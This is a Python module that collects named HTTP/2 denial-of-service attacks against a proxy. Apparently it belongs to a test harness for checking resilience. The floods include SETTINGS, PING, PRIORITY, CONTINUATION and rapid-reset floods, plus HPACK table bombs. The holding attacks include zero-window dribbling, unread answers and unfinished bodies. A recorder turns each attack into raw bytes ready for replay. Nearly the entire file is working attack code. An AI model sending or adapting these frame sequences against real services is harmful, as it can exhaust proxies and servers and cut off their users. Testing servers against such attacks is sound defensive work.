"""What a client of HTTP/2 can do to a proxy by valid or invalid frames, by name.

An attack is called with a FrameClient, and again with another one. Floods send what has to end their connection; the
others keep it open and hold whatever the proxy lets them hold.
"""

from hpack import Encoder
from http2_frames import GET, POST, FrameClient, continuation, replaced
from hyperframe.frame import (
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE
TABLE = SettingsFrame.HEADER_TABLE_SIZE
STREAMS = 100  # fewer than a connection may have at once
LARGE_PATH = "/1m"  # its answer is larger than all windows and buffers


def settings_flood(client):
    client.send(*[SettingsFrame(settings={WINDOW: 65535})] * 5000)


def ping_flood(client):
    client.send(*[PingFrame(opaque_data=b"12345678")] * 5000)


def priority_flood(client):
    client.send(*[PriorityFrame(2 * i + 1, depends_on=0, stream_weight=i % 256) for i in range(5000)])


def unknown_frames(client):
    client.send(b"\0\0\1\xee\0\0\0\0\0x" * 5000)


def empty_data(client):
    client.send(client.head(POST, end=False), *[DataFrame(1)] * 50)


def padded_nothing(client):
    """DATA that is padding and nothing else."""
    client.send(client.head(POST, end=False), *[DataFrame(1, flags=["PADDED"], pad_length=9)] * 50)


def continuations(client):
    head = HeadersFrame(1, data=client.encoder.encode(GET))
    client.send(head, *[continuation(b"", is_last=False)] * 50)


def large_continuations(client):
    """Fields without an end, each frame as large as it may be."""
    block = b"\x40\x01a\x7f\x81\xfe\0" + b"b" * 16384
    client.send(HeadersFrame(1, data=client.encoder.encode(GET)))
    client.send(*[continuation(block[:16384], is_last=False)] * 50)


def window_updates(client):
    client.send(*[WindowUpdateFrame(0, window_increment=1)] * 2000)


def many_settings(client):
    """More of them in a frame than anybody needs."""
    client.send(b"\0\1\x80\4\0\0\0\0\0" + b"\0\1\0\0\x10\0" * 64)


class Resets:
    """Requests, each with a frame that ends it: the client's reset, or one that makes the proxy send one."""

    def __init__(self, name, fields, ending, is_whole):
        self.__name__, self.fields, self.ending, self.is_whole = name, fields, ending, is_whole

    def __call__(self, client):
        for i in range(1, 8001, 2):
            client.send(self.head(client, i), self.ending(i))

    def head(self, client, stream_id):
        return client.head(self.fields, stream_id, end=self.is_whole)


def short_priority(stream_id):
    return b"\0\0\4\2\0" + stream_id.to_bytes(4) + b"\0\0\0\0"


RESETS = [
    Resets("rapid_reset", GET, lambda i: RstStreamFrame(i, error_code=8), is_whole=True),
    Resets("made_resets_by_windows", GET, lambda i: WindowUpdateFrame(i, window_increment=2**31 - 1), is_whole=False),
    Resets("made_resets_by_no_window", GET, lambda i: WindowUpdateFrame(i, window_increment=0), is_whole=False),
    Resets("made_resets_by_priorities", GET, short_priority, is_whole=False),
    Resets("made_resets_by_late_data", GET, lambda i: DataFrame(i, data=b"x"), is_whole=True),
    Resets(
        "made_resets_by_lengths",
        [*POST, ("content-length", "1")],
        lambda i: DataFrame(i, data=b"abc"),
        is_whole=False,
    ),
]


def made_resets_by_fields(client):
    for i in range(1, 8001, 2):
        client.send(client.head([*GET, ("connection", "close")], i))


def hpack_bomb(client):
    """One large entry of the table, named again and again."""
    entry = [("x-large", "a" * 3500)]
    client.send(client.head([*GET, *entry]))
    for i in range(3, 203, 2):
        client.send(client.head([*GET, *entry * 60], i))


def crumbs(client):
    """Many small fields that cost more than they weigh, cookie crumbs among them."""
    for i in range(1, 201, 2):
        client.send(client.head([*GET, *[("cookie", "a=b")] * 4000], i))


def empty_fields(client):
    """The same with values of nothing."""
    for i in range(1, 201, 2):
        client.send(client.head([*GET, *[("x", "")] * 4000], i))


FLOODS = [
    settings_flood, ping_flood, priority_flood, unknown_frames, empty_data, padded_nothing, continuations,
    large_continuations, window_updates, many_settings, *RESETS, made_resets_by_fields, hpack_bomb, crumbs,
    empty_fields,
]  # fmt: skip


def bomb_within_limits(client):
    """As many fields by reference as are allowed, in answers that no window lets through."""
    client.send(SettingsFrame(settings={WINDOW: 0}))
    entry = [("cookie", "a=b")]
    client.send(*[client.head([*GET, *entry * 90], 2 * i + 1) for i in range(STREAMS)])


def unread_answers(client):
    """Windows wide open, and nothing is read from the socket."""
    client.send(SettingsFrame(settings={WINDOW: 2**31 - 1}), WindowUpdateFrame(0, window_increment=2**30))
    client.send(*[client.head(replaced(GET, path=LARGE_PATH), 2 * i + 1) for i in range(STREAMS)])


def dribble(client):
    """Answers are asked for byte by byte."""
    client.send(SettingsFrame(settings={WINDOW: 0}))
    client.send(*[client.head(replaced(GET, path=LARGE_PATH), 2 * i + 1) for i in range(10)])
    for _ in range(10):
        client.send(*[WindowUpdateFrame(2 * i + 1, window_increment=1) for i in range(10)])


def unfinished_head(client):
    head = HeadersFrame(1, data=client.encoder.encode(GET)[:-1])
    client.send(head)


def unfinished_bodies(client):
    """A byte of each body, and no more."""
    for i in range(STREAMS):
        client.send(client.head(POST, 2 * i + 1, end=False), DataFrame(2 * i + 1, data=b"x"))


def table_sizes(client):
    """The tables of HPACK are to be empty and full in turn, by settings and in field sections."""
    client.send(*[SettingsFrame(settings={TABLE: 65536 * (i % 2)}) for i in range(200)])
    block = b"\x20\x3f\xe1\x1f" * 400 + Encoder().encode(GET)
    flags = ["END_HEADERS", "END_STREAM"]
    client.send(*[HeadersFrame(2 * i + 1, data=block, flags=flags) for i in range(STREAMS)])


HOLDS = [bomb_within_limits, unread_answers, dribble, unfinished_head, unfinished_bodies, table_sizes]
ATTACKS = {attack.__name__: attack for attack in (*FLOODS, *HOLDS)}


class Recorder:
    """In place of a socket: keeps what is sent."""

    def __init__(self):
        self.sent = b""

    def settimeout(self, _seconds):
        pass

    def sendall(self, data):
        self.sent += data


def recorded(name):
    """Give the bytes of an attack, so that whoever sends them again and again has little to do."""
    recorder = Recorder()
    ATTACKS[name](FrameClient(sock=recorder))
    return recorder.sent
